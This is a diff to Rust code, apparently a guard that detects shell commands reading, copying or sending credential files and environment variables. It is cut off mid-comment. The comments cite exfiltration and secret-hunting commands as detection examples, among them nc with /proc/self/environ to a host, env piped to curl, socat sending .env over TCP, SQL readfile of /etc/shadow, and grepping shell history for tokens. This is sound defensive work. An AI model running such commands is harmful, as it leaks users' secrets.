@@ -403,22 +403,18 @@ fn secretish_pattern(s: &str) -> bool {
         || paths::secret_kind(s).is_some()
 }
 
+/// A credential a command reaches: what it does with it, the path, and
+/// what kind of secret is there.
+type Found = (Role, String, String);
+
+/// Every way a command reaches a credential, one step per way, in the order
+/// their verdicts are reported.
 pub(crate) fn check(ctx: &mut Ctx, i: usize) {
     let c = &ctx.commands()[i];
     check_secret_vars(ctx, i);
     check_code_reads_environment(ctx, i);
     if c.argv.is_empty() {
-        // `$(< .env)` reads the file like `cat`.
-        if let Some((path, kind)) = c.stdin.iter().find_map(|s| match s {
-            Input::File(w) => ctx.secret_kind(&w.text).map(|k| (w.text.clone(), k)),
-            _ => None,
-        }) {
-            ctx.hit(
-                RuleId::SecretRead,
-                i,
-                format!("`$(< {path})` reads {path} ({kind})"),
-            );
-        }
+        check_substitution_reads_file(ctx, i);
         return;
     }
     let Some(name) = c.program() else {
@@ -430,19 +426,67 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
     check_environ_reached_indirectly(ctx, i, name);
     check_filtered_env_dump(ctx, i, name);
     check_shell_history(ctx, i, name);
-    let c = &ctx.commands()[i];
 
-    // Reads through redirection apply to every program.
-    let net = is_network_tool(name);
-    let mut found: Vec<(Role, String, String)> = Vec::new();
-    // `dotenv -e .env.test -- jest`, `env-cmd -f .env jest`: a loader that
-    // runs a command puts the file's values into that command's
-    // environment, as `source .env && jest` does (asks); printing them is
-    // judged on the command it runs (`dotenv -- env` blocks).
-    let loader = ctx
-        .model(i)
+    let loader = is_dotenv_loader(ctx, i);
+    let mut found: Vec<Found> = Vec::new();
+    find_redirected_inputs(ctx, i, name, &mut found);
+    find_other_descriptors(ctx, i, &mut found);
+    find_files_the_model_names(ctx, i, &mut found);
+    if is_network_tool(name) {
+        find_sent(ctx, i, &mut found);
+    } else if operands_are_its_own(ctx, i, name) {
+        find_operands(ctx, i, name, &mut found);
+    }
+    find_forced_git_adds(ctx, i, name, &mut found);
+    find_git_history(ctx, i, name, &mut found);
+    find_socat_files(ctx, i, name, &mut found);
+    find_sql_file_reads(ctx, i, name, &mut found);
+    find_file_urls(ctx, i, &mut found);
+    find_git_stored(ctx, i, name, &mut found);
+    find_names_on_input(ctx, i, &mut found);
+    find_code_literals(ctx, i, &mut found);
+    drop_openssl_keys_used(ctx, i, name, &mut found);
+    drop_gpg_verified_keys(ctx, i, name, &mut found);
+    drop_project_files_listed(name, &mut found);
+    mark_ssh_keygen_new_key(ctx, i, name, &mut found);
+    drop_openssl_outputs(ctx, i, name, &mut found);
+    mark_renamed_in_place(ctx, i, name, &mut found);
+    report_found(ctx, i, name, loader, found);
+
+    check_environment_dump(ctx, i, name);
+    check_dotenv_printer(ctx, i, name);
+}
+
+/// `$(< .env)` reads the file like `cat`.
+fn check_substitution_reads_file(ctx: &mut Ctx, i: usize) {
+    let c = &ctx.commands()[i];
+    if let Some((path, kind)) = c.stdin.iter().find_map(|s| match s {
+        Input::File(w) => ctx.secret_kind(&w.text).map(|k| (w.text.clone(), k)),
+        _ => None,
+    }) {
+        ctx.hit(
+            RuleId::SecretRead,
+            i,
+            format!("`$(< {path})` reads {path} ({kind})"),
+        );
+    }
+}
+
+/// `dotenv -e .env.test -- jest`, `env-cmd -f .env jest`: a loader that
+/// runs a command puts the file's values into that command's environment,
+/// as `source .env && jest` does (asks); printing them is judged on the
+/// command it runs (`dotenv -- env` blocks).
+fn is_dotenv_loader(ctx: &Ctx, i: usize) -> bool {
+    ctx.model(i)
         .is_some_and(|m| m.class == Some(aq_knowledge::programs::Class::Secrets))
-        && ctx.commands()[i].runs.is_some();
+        && ctx.commands()[i].runs.is_some()
+}
+
+/// Reads through redirection apply to every program; a network tool sends
+/// what it reads (`nc HOST PORT < /proc/self/environ`).
+fn find_redirected_inputs(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
+    let net = is_network_tool(name);
     for s in &c.stdin {
         if let Input::File(w) = s
             && let Some(kind) = ctx.secret_kind(&w.text)
@@ -465,8 +509,12 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             ));
         }
     }
-    // `cat <&3 3< ~/.ssh/id_rsa`, `exec 3< .env`: another descriptor opened
-    // on a secret is read as surely as standard input.
+}
+
+/// `cat <&3 3< ~/.ssh/id_rsa`, `exec 3< .env`: another descriptor opened
+/// on a secret is read as surely as standard input.
+fn find_other_descriptors(ctx: &Ctx, i: usize, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     for r in &c.redirects {
         if matches!(
             r.kind,
@@ -477,8 +525,12 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             found.push((Role::Read, r.target.text.clone(), kind));
         }
     }
-    // What the capability model says this program reads or uploads:
-    // `wget -i F`, `curl -K F`, `git diff --no-index A B`.
+}
+
+/// What the capability model says this program reads or uploads:
+/// `wget -i F`, `curl -K F`, `git diff --no-index A B`.
+fn find_files_the_model_names(ctx: &Ctx, i: usize, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     let model = ctx.model(i);
     if super::programs::names_files(model, aq_knowledge::programs::Does::Read)
         || super::programs::names_files(model, aq_knowledge::programs::Does::Upload)
@@ -497,202 +549,268 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    if net {
-        found.extend(sent_paths(ctx, i));
-        // `env | curl --data-binary @- ...`: the whole environment goes out.
-        if reads_env_dump(ctx, i) {
-            found.push((
-                Role::Send,
-                "the environment".to_string(),
-                "every environment variable, secrets included".to_string(),
-            ));
+}
+
+/// A network tool sends the files it names, the environment piped into it
+/// and whatever a command upstream read from a secret.
+fn find_sent(ctx: &Ctx, i: usize, found: &mut Vec<Found>) {
+    found.extend(sent_paths(ctx, i));
+    // `env | curl --data-binary @- ...`: the whole environment goes out.
+    if reads_env_dump(ctx, i) {
+        found.push((
+            Role::Send,
+            "the environment".to_string(),
+            "every environment variable, secrets included".to_string(),
+        ));
+    }
+    // Data piped in from a command that read a secret.
+    for u in ctx.upstream(i) {
+        let up = &ctx.commands()[u];
+        if let Some((p, kind)) = up
+            .args()
+            .iter()
+            .chain(up.stdin.iter().filter_map(|s| {
+                if let Input::File(w) = s {
+                    Some(w)
+                } else {
+                    None
+                }
+            }))
+            .find_map(|w| ctx.secret_kind(&w.text).map(|k| (w.text.clone(), k)))
+        {
+            found.push((Role::Send, p, kind));
         }
-        // Data piped in from a command that read a secret.
-        for u in ctx.upstream(i) {
-            let up = &ctx.commands()[u];
-            if let Some((p, kind)) = up
-                .args()
-                .iter()
-                .chain(up.stdin.iter().filter_map(|s| {
-                    if let Input::File(w) = s {
-                        Some(w)
-                    } else {
-                        None
-                    }
-                }))
-                .find_map(|w| ctx.secret_kind(&w.text).map(|k| (w.text.clone(), k)))
-            {
-                found.push((Role::Send, p, kind));
-            }
-        }
-    } else if !args_are_data(name)
-        // (sed "runs" the files its `w F` and `r F` name, but reads its
-        // own operands still.)
+    }
+}
+
+/// A wrapper's arguments are its inner command's, judged there; sed "runs"
+/// the files its `w F` and `r F` name, but reads its own operands still.
+fn operands_are_its_own(ctx: &Ctx, i: usize, name: &str) -> bool {
+    let c = &ctx.commands()[i];
+    !args_are_data(name)
         && (c.runs.is_none() || matches!(name, "sed" | "gsed"))
         && !super::platforms::fetches_secrets(ctx, i)
+}
+
+/// The files a program names on its line are read, copied or looked at
+/// according to what the program does.
+fn find_operands(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let role = role_of(name);
+    let mut ops = operands_with_placeholders(ctx, i, name);
+    find_credential_dirs_walked(ctx, i, role, &ops, found);
+    find_decoded_names(ctx, role, &ops, found);
+    find_history_files(ctx, i, name, role, &ops, found);
+    join_relative_to_cd(ctx, i, &mut ops);
+    find_named_secrets(ctx, i, name, role, ops, found);
+}
+
+/// `find -name .env -exec cat {} \;`, `echo .env | xargs cat`: the names a
+/// placeholder stands for are operands too.
+fn operands_with_placeholders(ctx: &Ctx, i: usize, name: &str) -> Vec<Word> {
+    let c = &ctx.commands()[i];
+    let mut ops: Vec<Word> = file_operands(c, name).into_iter().cloned().collect();
+    if ops.iter().any(|w| w.text.contains("{}")) || c.via.last().is_some_and(|v| v == "xargs") {
+        ops.extend(placeholder_values(ctx, i).into_iter().map(Word::literal));
+    }
+    ops
+}
+
+/// `find ~/.aws -type f -exec cat {} +`: every file under a credential
+/// directory (unless a name narrows it: `-name '*.pub'` is judged by that
+/// name).
+fn find_credential_dirs_walked(
+    ctx: &Ctx,
+    i: usize,
+    role: Role,
+    ops: &[Word],
+    found: &mut Vec<Found>,
+) {
+    if ops.iter().any(|w| w.text.contains("{}"))
+        && matches!(role, Role::Read | Role::Copy)
+        && placeholder_values(ctx, i).is_empty()
     {
-        // A wrapper's arguments are its inner command's, judged there.
-        let role = role_of(name);
-        let mut ops: Vec<Word> = file_operands(c, name).into_iter().cloned().collect();
-        // `find -name .env -exec cat {} \;`, `echo .env | xargs cat`.
-        if ops.iter().any(|w| w.text.contains("{}")) || c.via.last().is_some_and(|v| v == "xargs") {
-            ops.extend(placeholder_values(ctx, i).into_iter().map(Word::literal));
-        }
-        // `find ~/.aws -type f -exec cat {} +`: every file under a
-        // credential directory (unless a name narrows it: `-name '*.pub'`
-        // is judged by that name).
-        if ops.iter().any(|w| w.text.contains("{}"))
-            && matches!(role, Role::Read | Role::Copy)
-            && placeholder_values(ctx, i).is_empty()
-        {
-            for root in super::finder_roots(ctx, i) {
-                if let Some(dir) =
-                    paths::secret_dir(&root).filter(|_| !NormPath::new(&root).is_home())
-                {
-                    found.push((role, root.clone(), dir.to_string()));
-                }
-            }
-        }
-        // `cat $(echo fi5zc2gv… | base64 -d)`: a file name decoded on the line.
-        for w in &ops {
-            if let Some(name) = decoded_word(ctx, w)
-                && let Some(kind) = ctx.secret_kind(&name)
+        for root in super::finder_roots(ctx, i) {
+            if let Some(dir) = paths::secret_dir(&root).filter(|_| !NormPath::new(&root).is_home())
             {
-                found.push((role, name, kind));
-            }
-        }
-        // The shell's history: what the user typed, tokens pasted on
-        // command lines among it. Reading it asks.
-        // Searching it for secrets (`grep -i token ~/.bash_history`) is a
-        // secret hunt, which blocks.
-        if matches!(role, Role::Read | Role::Metadata)
-            && let Some(h) = ops.iter().find(|w| paths::is_history_file(&w.text))
-        {
-            let hunted = matches!(
-                name,
-                "grep" | "egrep" | "fgrep" | "rg" | "ag" | "ack" | "zgrep"
-            ) && c
-                .args()
-                .iter()
-                .filter(|a| !paths::is_history_file(&a.text))
-                .any(|a| super::tree_search::could_match_a_secret(&a.text) && a.text.len() >= 3);
-            if hunted {
-                found.push((
-                    Role::Read,
-                    h.text.clone(),
-                    "the shell history, searched for the tokens typed on command lines".to_string(),
-                ));
-            } else {
-                found.push((
-                    Role::Metadata,
-                    h.text.clone(),
-                    "a credential location: the shell history, with whatever was typed on command lines"
-                        .to_string(),
-                ));
-            }
-        }
-        // `cd ~/.aws && cat credentials`, `(cd ~/.ssh && tar czf - .)`: a
-        // relative name in the directory an earlier `cd` went to, when
-        // that makes it a credential file or directory.
-        let cd_before = ctx.commands()[..i].iter().any(|b| {
-            b.argv
-                .first()
-                .is_some_and(|w| w.text == "cd" || w.text == "pushd")
-        });
-        if cd_before && let Some(dir) = super::cwd_before(ctx, i).filter(|d| !d.contains('$')) {
-            for w in ops.iter_mut() {
-                let t = w.text.as_str();
-                if t.starts_with(['/', '~', '$', '-']) || w.dynamic {
-                    continue;
-                }
-                let joined = format!("{}/{t}", dir.trim_end_matches('/'));
-                if ctx.secret_kind(&joined).is_some() || paths::secret_dir(&joined).is_some() {
-                    *w = Word::literal(joined);
-                }
-            }
-        }
-        // `sed -i 's/^X=.*/X=dev/' .env`: the file is rewritten where it is
-        // and nothing of it is printed (sed's output goes back into it).
-        // Made from a template earlier on the line (`cp .env.example .env`)
-        // it holds no secret yet: an ordinary edit; otherwise the secret
-        // file is touched, not read.
-        let edits_unread = sed_edits_in_place_unprinted(c, name);
-        let n_ops = ops.len();
-        for (k, w) in ops.into_iter().enumerate() {
-            if edits_unread && ctx.secret_kind(&w.text).is_some() {
-                if !made_from_template(ctx, i, &w.text) {
-                    found.push((
-                        Role::Metadata,
-                        w.text.clone(),
-                        "a credential file, edited in place without printing it".to_string(),
-                    ));
-                }
-                continue;
-            }
-            // The destination of a copy is written, not read.
-            if role == Role::Copy
-                && k + 1 == n_ops
-                && n_ops >= 2
-                && !matches!(
-                    name,
-                    "tar" | "zip" | "7z" | "gzip" | "bzip2" | "xz" | "zstd" | "gpg"
-                )
-            {
-                continue;
-            }
-            // `doctl kubernetes cluster kubeconfig save`: a word of the
-            // program's subcommand, not a file.
-            if ctx.model(i).is_some_and(|p| p.is_sub_word(&w.text)) {
-                continue;
-            }
-            for cand in path_candidates(&w.text) {
-                if let Some(kind) = ctx.secret_kind(cand) {
-                    found.push((role, cand.to_string(), kind));
-                    break;
-                }
-                // A link to a credential directory reads nothing, and
-                // its files keep their names (`ln -s ~/.ssh k`): what is
-                // read through it later on the line is judged where it
-                // lands (aq-shell follows the line's links). A link to a
-                // credential file is a copy under another name.
-                let links = matches!(name, "ln" | "link");
-                if role == Role::Copy
-                    && !links
-                    && let Some(dir) = paths::secret_dir(cand).or_else(|| {
-                        paths::holds_secrets(cand).filter(|_| is_recursive_copy(c, name))
-                    })
-                {
-                    found.push((Role::Copy, cand.to_string(), dir.to_string()));
-                    break;
-                }
-                // `ls -la ~/.claude`: the directory the agent's login is in.
-                let lists_login =
-                    matches!(name, "ls" | "tree" | "exa" | "eza" | "lsd" | "dir" | "vdir")
-                        && paths::lists_credential_file(cand).is_some();
-                // `cp -r ~/.claude/projects/x /tmp/`: the agent's transcripts,
-                // with what its sessions saw, copied out.
-                if role == Role::Copy
-                    && let Some(what) = paths::agent_transcripts(cand)
-                {
-                    found.push((Role::Metadata, cand.to_string(), what.to_string()));
-                    break;
-                }
-                if paths::credential_location(cand)
-                    || lists_login
-                    || paths::secret_dir(cand).is_some_and(|_| !NormPath::new(cand).is_home())
-                {
-                    found.push((
-                        Role::Metadata,
-                        cand.to_string(),
-                        "a credential location".into(),
-                    ));
-                    break;
-                }
+                found.push((role, root.clone(), dir.to_string()));
             }
         }
     }
-    // `git show HEAD:.env`, `git log -p -- .env`: secrets from history.
-    // `git add -f .env`: a secret on its way into history and to the remote.
+}
+
+/// `cat $(echo fi5zc2gv… | base64 -d)`: a file name decoded on the line.
+fn find_decoded_names(ctx: &Ctx, role: Role, ops: &[Word], found: &mut Vec<Found>) {
+    for w in ops {
+        if let Some(name) = decoded_word(ctx, w)
+            && let Some(kind) = ctx.secret_kind(&name)
+        {
+            found.push((role, name, kind));
+        }
+    }
+}
+
+/// The shell's history holds what the user typed, tokens pasted on command
+/// lines among it: reading it asks, searching it for secrets
+/// (`grep -i token ~/.bash_history`) is a secret hunt, which blocks.
+fn find_history_files(
+    ctx: &Ctx,
+    i: usize,
+    name: &str,
+    role: Role,
+    ops: &[Word],
+    found: &mut Vec<Found>,
+) {
+    let c = &ctx.commands()[i];
+    if matches!(role, Role::Read | Role::Metadata)
+        && let Some(h) = ops.iter().find(|w| paths::is_history_file(&w.text))
+    {
+        let hunted = matches!(
+            name,
+            "grep" | "egrep" | "fgrep" | "rg" | "ag" | "ack" | "zgrep"
+        ) && c
+            .args()
+            .iter()
+            .filter(|a| !paths::is_history_file(&a.text))
+            .any(|a| super::tree_search::could_match_a_secret(&a.text) && a.text.len() >= 3);
+        if hunted {
+            found.push((
+                Role::Read,
+                h.text.clone(),
+                "the shell history, searched for the tokens typed on command lines".to_string(),
+            ));
+        } else {
+            found.push((
+                Role::Metadata,
+                h.text.clone(),
+                "a credential location: the shell history, with whatever was typed on command lines"
+                    .to_string(),
+            ));
+        }
+    }
+}
+
+/// `cd ~/.aws && cat credentials`, `(cd ~/.ssh && tar czf - .)`: a relative
+/// name in the directory an earlier `cd` went to, when that makes it a
+/// credential file or directory.
+fn join_relative_to_cd(ctx: &Ctx, i: usize, ops: &mut [Word]) {
+    let cd_before = ctx.commands()[..i].iter().any(|b| {
+        b.argv
+            .first()
+            .is_some_and(|w| w.text == "cd" || w.text == "pushd")
+    });
+    if cd_before && let Some(dir) = super::cwd_before(ctx, i).filter(|d| !d.contains('$')) {
+        for w in ops.iter_mut() {
+            let t = w.text.as_str();
+            if t.starts_with(['/', '~', '$', '-']) || w.dynamic {
+                continue;
+            }
+            let joined = format!("{}/{t}", dir.trim_end_matches('/'));
+            if ctx.secret_kind(&joined).is_some() || paths::secret_dir(&joined).is_some() {
+                *w = Word::literal(joined);
+            }
+        }
+    }
+}
+
+/// Each operand that is a credential file, directory or location, except
+/// where the program writes rather than reads it.
+fn find_named_secrets(
+    ctx: &Ctx,
+    i: usize,
+    name: &str,
+    role: Role,
+    ops: Vec<Word>,
+    found: &mut Vec<Found>,
+) {
+    let c = &ctx.commands()[i];
+    // `sed -i 's/^X=.*/X=dev/' .env`: the file is rewritten where it is
+    // and nothing of it is printed (sed's output goes back into it).
+    // Made from a template earlier on the line (`cp .env.example .env`)
+    // it holds no secret yet: an ordinary edit; otherwise the secret
+    // file is touched, not read.
+    let edits_unread = sed_edits_in_place_unprinted(c, name);
+    let n_ops = ops.len();
+    for (k, w) in ops.into_iter().enumerate() {
+        if edits_unread && ctx.secret_kind(&w.text).is_some() {
+            if !made_from_template(ctx, i, &w.text) {
+                found.push((
+                    Role::Metadata,
+                    w.text.clone(),
+                    "a credential file, edited in place without printing it".to_string(),
+                ));
+            }
+            continue;
+        }
+        // The destination of a copy is written, not read.
+        if role == Role::Copy
+            && k + 1 == n_ops
+            && n_ops >= 2
+            && !matches!(
+                name,
+                "tar" | "zip" | "7z" | "gzip" | "bzip2" | "xz" | "zstd" | "gpg"
+            )
+        {
+            continue;
+        }
+        // `doctl kubernetes cluster kubeconfig save`: a word of the
+        // program's subcommand, not a file.
+        if ctx.model(i).is_some_and(|p| p.is_sub_word(&w.text)) {
+            continue;
+        }
+        if let Some(f) = path_candidates(&w.text)
+            .into_iter()
+            .find_map(|cand| candidate_secret(ctx, c, name, role, cand))
+        {
+            found.push(f);
+        }
+    }
+}
+
+/// What one candidate path of an operand reaches, if it is a credential
+/// file, a credential directory copied, the agent's transcripts copied, or
+/// a place where credentials live.
+fn candidate_secret(ctx: &Ctx, c: &Command, name: &str, role: Role, cand: &str) -> Option<Found> {
+    if let Some(kind) = ctx.secret_kind(cand) {
+        return Some((role, cand.to_string(), kind));
+    }
+    // A link to a credential directory reads nothing, and its files keep
+    // their names (`ln -s ~/.ssh k`): what is read through it later on the
+    // line is judged where it lands (aq-shell follows the line's links). A
+    // link to a credential file is a copy under another name.
+    let links = matches!(name, "ln" | "link");
+    if role == Role::Copy
+        && !links
+        && let Some(dir) = paths::secret_dir(cand)
+            .or_else(|| paths::holds_secrets(cand).filter(|_| is_recursive_copy(c, name)))
+    {
+        return Some((Role::Copy, cand.to_string(), dir.to_string()));
+    }
+    // `ls -la ~/.claude`: the directory the agent's login is in.
+    let lists_login = matches!(name, "ls" | "tree" | "exa" | "eza" | "lsd" | "dir" | "vdir")
+        && paths::lists_credential_file(cand).is_some();
+    // `cp -r ~/.claude/projects/x /tmp/`: the agent's transcripts, with
+    // what its sessions saw, copied out.
+    if role == Role::Copy
+        && let Some(what) = paths::agent_transcripts(cand)
+    {
+        return Some((Role::Metadata, cand.to_string(), what.to_string()));
+    }
+    if paths::credential_location(cand)
+        || lists_login
+        || paths::secret_dir(cand).is_some_and(|_| !NormPath::new(cand).is_home())
+    {
+        return Some((
+            Role::Metadata,
+            cand.to_string(),
+            "a credential location".into(),
+        ));
+    }
+    None
+}
+
+/// `git add -f .env`: a secret on its way into history and to the remote.
+fn find_forced_git_adds(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if name == "git" && super::net::git_subcommand(c) == Some("add") {
         for w in operands(c).iter().skip(1) {
             if let Some(kind) = ctx.secret_kind(&w.text) {
@@ -700,56 +818,24 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // History: a blob by revision (`git show HEAD:.env`, `git cat-file -p
-    // :.env`) is its content; a pathspec (`git log -p -- .env`, `git diff
-    // HEAD~3 .env`, `git blame .env`) is when patches or lines are shown,
-    // not for `git log --oneline -- .env` or `git diff --stat .env`. A
-    // history dump without a pathspec (`git log -p`) names no file: the
-    // engine cannot know what the repository committed (see docs/policy.md).
+}
+
+/// `git show HEAD:.env`, `git log -p -- .env`: secrets read from history.
+///
+/// A blob by revision (`git show HEAD:.env`, `git cat-file -p :.env`) is
+/// its content; a pathspec (`git log -p -- .env`, `git diff HEAD~3 .env`,
+/// `git blame .env`) is when patches or lines are shown, not for
+/// `git log --oneline -- .env` or `git diff --stat .env`. A history dump
+/// without a pathspec (`git log -p`) names no file: the engine cannot know
+/// what the repository committed (see docs/policy.md).
+fn find_git_history(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if name == "git"
         && let Some(sub) = super::net::git_subcommand(c)
         && let Some(content) = history_content(c, sub)
     {
-        let args = c.args();
-        let rev_paths = args
-            .iter()
-            .filter(|a| !is_flag(a))
-            .filter_map(|a| a.text.split_once(':').map(|(_, p)| p))
-            .filter(|p| !p.is_empty() && !p.contains("//"));
-        let mut paths: Vec<&str> = rev_paths.collect();
-        if content == HistoryContent::Patches {
-            let at = args.iter().position(|a| a.text == sub).map_or(0, |k| k + 1);
-            paths.extend(
-                args[at..]
-                    .iter()
-                    .filter(|a| {
-                        !is_flag(a)
-                            && (!a.text.contains(':')
-                                || a.text.starts_with(":(")
-                                || a.text.starts_with(":/"))
-                    })
-                    .map(|a| a.text.as_str()),
-            );
-        }
-        // A blob named by a substitution: `git cat-file -p $(git rev-parse
-        // HEAD:.env)`.
-        let mut named: Vec<String> = Vec::new();
-        for w in args.iter().filter(|w| !w.feeds.is_empty()) {
-            for s in ctx.word_sources(w) {
-                named.extend(
-                    ctx.commands()[s]
-                        .args()
-                        .iter()
-                        .filter_map(|a| a.text.split_once(':').map(|(_, p)| p.to_string()))
-                        .filter(|p| !p.is_empty() && !p.contains("//")),
-                );
-            }
-        }
-        // `git cat-file --batch` reads object names on its input
-        // (`HEAD:.env`, `contents HEAD:.env` for `--batch-command`).
-        if sub == "cat-file" {
-            named.extend(batch_object_paths(ctx, i));
-        }
+        let mut paths = revisions_and_pathspecs(c, sub, content);
+        let named = blobs_named_elsewhere(ctx, i, sub);
         paths.extend(named.iter().map(String::as_str));
         for p in paths {
             if let Some(kind) = ctx.secret_kind(p) {
@@ -765,7 +851,62 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // socat FILE:.env TCP:host:port
+}
+
+/// The paths of `REV:PATH` arguments, and the pathspecs when the
+/// subcommand shows their patches or lines.
+fn revisions_and_pathspecs<'c>(c: &'c Command, sub: &str, content: HistoryContent) -> Vec<&'c str> {
+    let args = c.args();
+    let rev_paths = args
+        .iter()
+        .filter(|a| !is_flag(a))
+        .filter_map(|a| a.text.split_once(':').map(|(_, p)| p))
+        .filter(|p| !p.is_empty() && !p.contains("//"));
+    let mut paths: Vec<&str> = rev_paths.collect();
+    if content == HistoryContent::Patches {
+        let at = args.iter().position(|a| a.text == sub).map_or(0, |k| k + 1);
+        paths.extend(
+            args[at..]
+                .iter()
+                .filter(|a| {
+                    !is_flag(a)
+                        && (!a.text.contains(':')
+                            || a.text.starts_with(":(")
+                            || a.text.starts_with(":/"))
+                })
+                .map(|a| a.text.as_str()),
+        );
+    }
+    paths
+}
+
+/// Blobs named outside the arguments: by a substitution (`git cat-file -p
+/// $(git rev-parse HEAD:.env)`) or on `git cat-file --batch`'s input
+/// (`HEAD:.env`, `contents HEAD:.env` for `--batch-command`).
+fn blobs_named_elsewhere(ctx: &Ctx, i: usize, sub: &str) -> Vec<String> {
+    let c = &ctx.commands()[i];
+    let mut named: Vec<String> = Vec::new();
+    for w in c.args().iter().filter(|w| !w.feeds.is_empty()) {
+        for s in ctx.word_sources(w) {
+            named.extend(
+                ctx.commands()[s]
+                    .args()
+                    .iter()
+                    .filter_map(|a| a.text.split_once(':').map(|(_, p)| p.to_string()))
+                    .filter(|p| !p.is_empty() && !p.contains("//")),
+            );
+        }
+    }
+    if sub == "cat-file" {
+        named.extend(batch_object_paths(ctx, i));
+    }
+    named
+}
+
+/// `socat FILE:.env TCP:host:port`: socat sends the files its addresses
+/// open.
+fn find_socat_files(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if name == "socat" {
         for a in c.args() {
             let lower = a.text.to_ascii_lowercase();
@@ -780,9 +921,13 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // SQL that reads a file: `sqlite3 :memory: "select readfile('/etc/shadow')"`,
-    // DuckDB's `read_text('~/.aws/credentials')`, `pg_read_file`,
-    // MySQL's `LOAD_FILE`; sqlite3's `.read F` and `.import F T`.
+}
+
+/// SQL that reads a file: `sqlite3 :memory: "select readfile('/etc/shadow')"`,
+/// DuckDB's `read_text('~/.aws/credentials')`, `pg_read_file`, MySQL's
+/// `LOAD_FILE`; sqlite3's `.read F` and `.import F T`.
+fn find_sql_file_reads(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if matches!(
         name,
         "sqlite3" | "sqlite" | "duckdb" | "psql" | "mysql" | "mariadb" | "clickhouse-client"
@@ -797,7 +942,11 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // `curl file:///home/dev/.netrc`: a URL of a local file reads it.
+}
+
+/// `curl file:///home/dev/.netrc`: a URL of a local file reads it.
+fn find_file_urls(ctx: &Ctx, i: usize, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     for a in c.args() {
         if let Some(rest) = a.text.strip_prefix("file://") {
             let path = rest.strip_prefix("localhost").unwrap_or(rest);
@@ -806,13 +955,19 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // `git hash-object -w F` stores F in the repository's objects (pushed
-    // with the next push); `git --work-tree=DIR add P` adds DIR/P.
+}
+
+/// `git hash-object -w F` stores F in the repository's objects (pushed
+/// with the next push); `git --work-tree=DIR add P` adds DIR/P.
+fn find_git_stored(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
     if name == "git" {
-        found.extend(git_stored_paths(ctx, c));
+        found.extend(git_stored_paths(ctx, &ctx.commands()[i]));
     }
-    // `cpio -o <<< FILE`, `ls ~/.ssh/* | cpio -o`: an archiver that reads
-    // the files whose names come on its input.
+}
+
+/// `cpio -o <<< FILE`, `ls ~/.ssh/* | cpio -o`: an archiver that reads the
+/// files whose names come on its input.
+fn find_names_on_input(ctx: &Ctx, i: usize, found: &mut Vec<Found>) {
     if ctx.model(i).is_some_and(|m| {
         m.caps(aq_knowledge::programs::Does::Read)
             .any(|cap| cap.via == aq_knowledge::programs::Via::Stdin)
@@ -826,8 +981,12 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // Interpreter code that names a secret file; or moves or copies a
-    // credential directory (`shutil.move('/root/.ssh', '/tmp/s')`).
+}
+
+/// Interpreter code that names a secret file; or moves or copies a
+/// credential directory (`shutil.move('/root/.ssh', '/tmp/s')`).
+fn find_code_literals(ctx: &Ctx, i: usize, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if let Some(code) = &c.code {
         let moves = super::code::moves_or_copies(code);
         for lit in &code.literals {
@@ -841,8 +1000,12 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // `openssl x509 -in server.pem`, `openssl s_server -key key.pem`: a
-    // certificate is inspected, a key is used, neither is printed.
+}
+
+/// `openssl x509 -in server.pem`, `openssl s_server -key key.pem`: a
+/// certificate is inspected, a key is used, neither is printed.
+fn drop_openssl_keys_used(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if name == "openssl"
         && matches!(
             super::subcommand(c),
@@ -860,8 +1023,12 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             .collect();
         found.retain(|(_, path, _)| !paths::is_key_file(path) || fed.contains(path));
     }
-    // `gpg --verify x.tar.gz.asc x.tar.gz`: a signature checked against the
-    // public keyring, nothing secret read or written.
+}
+
+/// `gpg --verify x.tar.gz.asc x.tar.gz`: a signature checked against the
+/// public keyring, nothing secret read or written.
+fn drop_gpg_verified_keys(ctx: &Ctx, i: usize, name: &str, found: &mut Vec<Found>) {
+    let c = &ctx.commands()[i];
     if matches!(name, "gpg" | "gpg2" | "gpgv")
         && c.args()
             .iter()
@@ -869,8 +1036,11 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
     {
         found.retain(|(_, path, _)| !paths::is_key_file(path));
     }
-    // `ls -la .env*`, `test -f .env`: the project's own secret files
-    // listed or tested by name, nothing read.
+}
+
+/// `ls -la .env*`, `test -f .env`: the project's own secret files listed
+/// or tested by name, nothing read.
+fn drop_project_files_listed(name: &str, found: &mut Vec<Found>) {
     let lists_only = matches!(
         name,
         "ls" | "stat"
@@ -895,9 +1065,13 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
                 || path.contains("..")
         });
     }
-    // `ssh-keygen -t ed25519 -f ~/.ssh/id_deploy`: a new key written, not
-    // one read (`-y`, `-p`, `-e` read the key `-f` names); writing into the
-    // user's SSH directory still touches a credential location.
+}
+
+/// `ssh-keygen -t ed25519 -f ~/.ssh/id_deploy`: a new key written, not one
